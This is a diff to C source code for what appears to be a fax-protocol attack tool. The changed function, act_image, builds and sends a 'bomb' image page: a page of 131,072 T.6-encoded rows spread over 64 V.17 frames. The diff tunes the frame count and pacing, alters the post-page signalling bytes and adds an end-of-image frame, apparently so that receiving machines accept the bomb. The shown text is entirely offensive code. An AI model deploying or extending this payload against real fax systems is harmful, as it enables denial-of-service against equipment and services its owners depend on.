@@ -16,7 +16,15 @@
 #include <time.h>
 #include <unistd.h>
 
-enum { V21 = 0, V17_14400 = 8, PREAMBLE = 3, V17_SHORT = 14, V17_LONG = 15, BOMB_FRAMES = 256 };
+enum {
+    V21 = 0,
+    V17_14400 = 8,
+    PREAMBLE = 3,
+    V17_SHORT = 14,
+    V17_LONG = 15,
+    BOMB_FRAMES = 64,
+    FRAMES_AT_ONCE = 12, /* each 100 ms, which a line takes of a call */
+};
 
 enum attack {
     SHORT_FCD,
@@ -161,9 +169,11 @@ static void act_end_training(struct attacker *a)
     send_indicator(a, 0);
 }
 
+/* The bomb is a whole page: 131,072 rows in T.6, a bit each. */
 static void act_image(struct attacker *a)
 {
-    const uint8_t pps[] = {0xff, 0x13, 0xbf, 0x00, 0, 0, 255};
+    const uint8_t pps[] = {0xff, 0x13, 0xbf, 0x2f, 0, 0, BOMB_FRAMES - 1};
+    const uint8_t rcp[] = {0xff, 0x03, 0x86};
     uint8_t frame[260];
     memset(frame, 0xff, sizeof frame);
     frame[1] = 0x03;
@@ -176,8 +186,12 @@ static void act_image(struct attacker *a)
     for (unsigned i = 0; i < BOMB_FRAMES; i++) {
         frame[3] = (uint8_t)i;
         send_frame(a, V17_14400, frame, sizeof frame, false);
+        if (i % FRAMES_AT_ONCE == 0)
+            pass(100);
     }
+    send_frame(a, V17_14400, rcp, sizeof rcp, true);
     send_indicator(a, 0);
+    pass(100);
     send_indicator(a, PREAMBLE);
     send_frame(a, V21, pps, sizeof pps, true);
 }
